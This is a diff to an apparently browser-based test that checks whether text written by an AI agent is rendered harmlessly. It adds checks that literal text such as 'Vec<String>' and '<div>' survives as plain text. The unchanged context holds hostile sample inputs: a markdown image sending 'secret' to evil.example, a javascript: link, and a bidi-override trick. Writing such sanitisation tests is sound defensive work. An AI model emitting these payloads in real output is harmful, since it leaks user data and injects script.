@@ -123,6 +123,8 @@ test("what agents write can do nothing: HTML, scripts, images, hidden directions
     "![x](https://evil.example/?q=secret)",
     "[run](javascript:window.hacked=1) [fine](https://example.com)",
     `pay ${LRI}REVERSED`,
+    "a Vec<String> is kept",
+    "<div>and so is this paragraph</div>",
   ].join("\n\n");
   agent.answers(hostile);
   const first = await client.tasks.run(
@@ -133,6 +135,8 @@ test("what agents write can do nothing: HTML, scripts, images, hidden directions
   await page.getByRole("heading", { name: "Title" }).waitFor();
   await page.getByText("⟦U+202E⟧REVERSED").waitFor();
   expect(await page.getByRole("main").locator("img, script, b").count()).toBe(0);
+  await page.getByText("a Vec<String> is kept").waitFor();
+  await page.getByText("<div>and so is this paragraph</div>").waitFor();
   expect(await page.getByRole("link", { name: "fine" }).getAttribute("rel")).toContain("noopener");
   expect(await page.locator("a[href^=javascript]").count()).toBe(0);
   expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
